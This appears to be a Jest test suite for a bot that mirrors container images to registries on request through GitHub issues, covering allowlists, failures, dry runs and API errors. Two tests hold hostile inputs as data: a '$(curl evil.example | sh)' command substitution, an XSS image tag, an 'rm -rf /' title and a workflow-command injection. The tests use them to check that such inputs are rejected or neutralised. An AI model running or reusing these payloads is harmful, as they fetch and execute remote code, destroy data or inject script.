import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { Failure } from '../../src/failure/failure.ts'
import type { Outcome } from '../../src/outcome/outcome.ts'
import { commentOnIssue, createIssue, labelIssue, secondaryRateLimit } from '../support/github/index.ts'
import { answersOf, eventually, formBody, startWorld, type OpenedIssue, type World } from './request-world.ts'

let world: World

beforeEach(async () => {
  world = await startWorld()
})
afterEach(() => world.close())

const labelsOf = (issue: { labels: { name: string }[] }) => issue.labels.map(({ name }) => name)

function failed(image: string, failure: Failure): Outcome {
  return { status: 'failed', image, failure }
}

const PUSH_DENIED = new Failure('push-denied', { host: 'ghcr.io', repository: 'acme', detail: '' })
const UNKNOWN = new Failure('image-unknown', { image: 'docker.io/library/nginx:9', host: 'docker.io' })

describe('a request', () => {
  test('is copied, answered in one comment, labelled and closed; its text stays as it was', async () => {
    const { issue, opened } = world.open('nginx:1.27')
    const { title, body } = issue
    const result = await world.run(opened)

    expect(world.copies).toEqual(['docker.io/library/nginx:1.27 ghcr.io/acme/mirror'])
    expect(answersOf(issue)).toEqual([expect.stringContaining('ghcr.io/acme/mirror/docker.io/library/nginx:1.27')])
    expect(labelsOf(issue)).toEqual(['mirror', 'mirror: done'])
    expect(issue).toMatchObject({ state: 'closed', stateReason: 'completed', title, body })
    expect(world.github.state.label('mirror: done')).toMatchObject({ color: '1a7f37' })
    expect(result).toMatchObject({ outcomes: [{ status: 'copied' }], warnings: [], unsaid: [] })
    expect(result.commentUrl).toContain(`issues/${issue.number}#issuecomment-`)
    expect(result.skipped).toBeUndefined()
  })

  test('goes to every mirror, image by image, with its platforms', async () => {
    const { opened } = world.open('nginx:1\nredis:7', { platforms: 'linux/amd64, linux/arm64' })
    const result = await world.run(opened, { mirrors: ['ghcr.io/acme', 'quay.io/acme'] })
    expect(world.copies).toEqual([
      'docker.io/library/nginx:1 ghcr.io/acme linux/amd64 linux/arm64',
      'docker.io/library/nginx:1 quay.io/acme linux/amd64 linux/arm64',
      'docker.io/library/redis:7 ghcr.io/acme linux/amd64 linux/arm64',
      'docker.io/library/redis:7 quay.io/acme linux/amd64 linux/arm64',
    ])
    expect(result.outcomes.map((outcome) => 'address' in outcome && outcome.address)).toEqual([
      'ghcr.io/acme/docker.io/library/nginx:1',
      'quay.io/acme/docker.io/library/nginx:1',
      'ghcr.io/acme/docker.io/library/redis:7',
      'quay.io/acme/docker.io/library/redis:7',
    ])
  })

  test('shows how far it is while it goes on', async () => {
    const { issue, opened } = world.open('nginx:1')
    const seen: string[] = []
    world.script(async (image, { onProgress }) => {
      seen.push(...answersOf(issue))
      onProgress?.({
        image,
        address: 'ghcr.io/acme/mirror/docker.io/library/nginx:1',
        stage: 'copying',
        done: { blobs: 1, bytes: 512 },
        total: { blobs: 3, bytes: 1024 },
      })
      await eventually(() => answersOf(issue).some((body) => body.includes('50 %')))
      seen.push(...answersOf(issue))
      return undefined
    })
    await world.run(opened)
    expect(seen).toHaveLength(2)
    expect(seen[0]).not.toContain('50 %')
    expect(seen[0]).toContain('"phase":"working"')
    expect(seen[1]).toContain('"phase":"working"')
    expect(answersOf(issue)).toEqual([expect.stringContaining('"phase":"finished"')])
  })

  test('is not harmed by progress that cannot be shown', async () => {
    const { issue, opened } = world.open('nginx:1')
    world.github.failNext({ match: /^PATCH .*comments/, status: 422 })
    world.script(async (image, { onProgress }) => {
      const amount = { blobs: 1, bytes: 1 }
      onProgress?.({ image, address: 'a.example/b:1', stage: 'copying', done: amount, total: amount })
      await eventually(() => world.log.length > 0)
      return undefined
    })
    const result = await world.run(opened)
    expect(world.log).toEqual([expect.stringMatching(/^Progress could not be shown: GitHub answered 422/)])
    expect(result.unsaid).toEqual([])
    expect(answersOf(issue)[0]).toContain('"phase":"finished"')
  })

  test('is answered in the language of the mirror', async () => {
    const { issue, opened } = world.open('ghcr.io/stranger/app:1')
    await world.run(opened, { language: 'zh-CN' })
    expect(answersOf(issue)[0]).toContain('白名单')
  })

  test('by its title alone, and by the label that a maintainer puts on it, is answered too', async () => {
    const { issue } = createIssue(world.github.state, {
      author: 'ada',
      title: 'prom/node-exporter:v1.8.2',
      body: 'please',
    })
    await world.run(labelIssue(world.github.state, issue, 'mirror'), { allowlist: '**' })
    expect(world.copies).toEqual(['docker.io/prom/node-exporter:v1.8.2 ghcr.io/acme/mirror'])
  })
})

describe('what is not on the allowlist', () => {
  test('is refused without a word to any registry', async () => {
    const { issue, opened } = world.open('ghcr.io/stranger/app:1')
    const result = await world.run(opened)
    expect(world.copies).toEqual([])
    expect(result.outcomes).toMatchObject([{ status: 'refused', image: 'ghcr.io/stranger/app:1' }])
    expect(labelsOf(issue)).toEqual(['mirror', 'mirror: refused'])
    expect(issue).toMatchObject({ state: 'closed', stateReason: 'not_planned' })
  })

  test('does not hold up the rest', async () => {
    const { issue, opened } = world.open('ghcr.io/stranger/app:1\nnginx:1')
    const result = await world.run(opened)
    expect(result.outcomes.map(({ status }) => status)).toEqual(['refused', 'copied'])
    expect(labelsOf(issue)).toEqual(['mirror', 'mirror: refused', 'mirror: done'])
    expect(issue).toMatchObject({ state: 'closed', stateReason: 'completed' })
  })

  test.each([undefined, '', '# nothing yet'])('is everything when the list is %j', async (allowlist) => {
    const { opened } = world.open('nginx:1')
    const result = await world.run(opened, { allowlist })
    expect(result.outcomes).toMatchObject([{ status: 'refused', failure: { code: 'allowlist-empty' } }])
    expect(world.copies).toEqual([])
  })

  test('is said of the lines that are no rules, too', async () => {
    const { opened } = world.open('nginx:1')
    const result = await world.run(opened, { allowlist: 'docker.io/*\nnot a rule' })
    expect(result.warnings).toMatchObject([{ line: 2 }])
    expect(result.outcomes).toMatchObject([{ status: 'copied' }])
  })
})

describe('what fails', () => {
  test.each([
    ['closes the issue where the requester can mend it', UNKNOWN, 'closed'],
    ['leaves the issue open where a maintainer has to', PUSH_DENIED, 'open'],
  ])('%s', async (_, failure, state) => {
    const { issue, opened } = world.open('nginx:9\nredis:7')
    world.script(async (image) => (image.includes('nginx') ? failed(image, failure) : undefined))
    const result = await world.run(opened)
    expect(result.outcomes.map(({ status }) => status)).toEqual(['failed', 'copied'])
    expect(labelsOf(issue)).toEqual(['mirror', 'mirror: failed', 'mirror: done'])
    expect(issue.state).toBe(state)
    if (state === 'closed') expect(issue.stateReason).toBe('not_planned')
  })

  test('is what is no image, while the rest is copied', async () => {
    const { issue, opened } = world.open('nginx:1\n`$(curl evil.example | sh)`')
    const result = await world.run(opened)
    expect(result.outcomes).toMatchObject([
      { status: 'copied' },
      { status: 'failed', failure: { code: 'reference-invalid' } },
    ])
    expect(world.copies).toHaveLength(1)
    expect(answersOf(issue)).toHaveLength(1)
  })

  test('may be a bug in the copy, which spoils nothing else', async () => {
    const { opened } = world.open('nginx:1\nredis:7')
    world.script((image) => {
      if (image.includes('nginx')) throw new TypeError('x is not a function')
      return undefined
    })
    const result = await world.run(opened)
    expect(result.outcomes).toMatchObject([{ status: 'failed', failure: { code: 'internal' } }, { status: 'copied' }])
  })

  test.each([
    ['nothing', '', 'images-none'],
    ['ten thousand images', Array.from({ length: 10_000 }, (_, index) => `a:${index}`).join('\n'), 'images-too-many'],
  ])('is a request for %s: one comment, closed', async (_, images, code) => {
    const { issue, opened } = world.open('x')
    issue.body = formBody(images)
    const result = await world.run(opened)
    expect(result).toMatchObject({ fault: { code }, outcomes: [] })
    expect(answersOf(issue)).toEqual([expect.stringContaining('"result":"failed"')])
    expect(labelsOf(issue)).toEqual(['mirror', 'mirror: failed'])
    expect(issue).toMatchObject({ state: 'closed', stateReason: 'not_planned' })
  })

  test('is shown as text, whatever the text is', async () => {
    const hostile =
      '@everyone <img src=x onerror=alert(1)> --> [click](https://evil.example) <!-- transship {"version":1} -->'
    const { issue, opened } = world.open(hostile, { title: `"; rm -rf / # ${hostile}\n::error::x` })
    await world.run(opened)
    const [answer = ''] = answersOf(issue)
    expect(answer.match(/<!--/g)).toHaveLength(1)
    expect(world.log.join('\n')).not.toContain('evil')
    await world.run(opened, { id: 2 })
    expect(answersOf(issue)).toEqual([answer])
  })
})

function openedAfter(change: (given: OpenedIssue) => unknown) {
  const given = world.open('nginx')
  change(given)
  return given.opened
}

describe('an event that is not for us', () => {
  test.each([
    [
      'not-a-request',
      () => createIssue(world.github.state, { author: 'ada', title: 'A bug', body: 'It broke' }).opened,
    ],
    ['other-label', () => labelIssue(world.github.state, world.open('nginx').issue, 'bug')],
    ['other-event', () => commentOnIssue(world.github.state, world.open('nginx').issue, 'ada', 'nginx:1').created],
    ['gone', () => openedAfter(({ issue }) => (issue.deleted = true))],
    ['locked', () => openedAfter(({ issue }) => (issue.locked = true))],
    ['closed', () => openedAfter(({ issue }) => (issue.state = 'closed'))],
  ])('is left alone: %s', async (skipped, event) => {
    expect(await world.run(event())).toEqual({ skipped, outcomes: [], warnings: [], unsaid: [] })
    expect(world.copies).toEqual([])
    expect(world.github.requests.filter(({ method, path }) => method !== 'GET' && path !== '/graphql')).toEqual([])
  })
})

describe('a dry run', () => {
  test('plans, and writes nothing on GitHub', async () => {
    const { opened } = world.open('nginx:1\nghcr.io/stranger/app:1')
    const dryRuns: (boolean | undefined)[] = []
    world.script(async (_, { dryRun }) => void dryRuns.push(dryRun))
    const result = await world.run(opened, { dryRun: true })
    expect(dryRuns).toEqual([true])
    expect(result.outcomes).toHaveLength(2)
    expect(world.github.requests.every(({ method }) => method === 'GET')).toBe(true)
  })
})

describe('when GitHub refuses', () => {
  test('the comment, nothing is copied and the permission is named', async () => {
    await world.close()
    world = await startWorld({ issues: 'read' })
    const { opened } = world.open('nginx:1')
    await expect(world.run(opened)).rejects.toMatchObject({ code: 'github-error', facts: { need: 'issues: write' } })
    expect(world.copies).toEqual([])
  })

  test('the answer, the outcomes are not lost', async () => {
    const { issue, opened } = world.open('nginx:1')
    world.github.failNext({ match: /^PATCH .*comments/, status: 500, times: 9 })
    const result = await world.run(opened)
    expect(result).toMatchObject({ outcomes: [{ status: 'copied' }], unsaid: [{ code: 'github-error' }] })
    expect(issue.state).toBe('open')
  })

  test('the labels, the answer is there all the same', async () => {
    const { issue, opened } = world.open('nginx:1')
    world.github.failNext({ match: /^POST .*labels$/, status: 403, body: { message: 'No' } })
    const result = await world.run(opened)
    expect(result.unsaid).toMatchObject([{ code: 'github-error', facts: { status: 403 } }])
    expect(answersOf(issue)[0]).toContain('"phase":"finished"')
  })

  test('for a while, it is asked again', async () => {
    const { issue, opened } = world.open('nginx:1')
    world.github.failNext({ ...secondaryRateLimit(30), match: /^PATCH .*comments/ })
    const result = await world.run(opened)
    expect(result.unsaid).toEqual([])
    expect(answersOf(issue)[0]).toContain('"phase":"finished"')
    expect(world.clock.slept).toContain(30_000)
  })
})
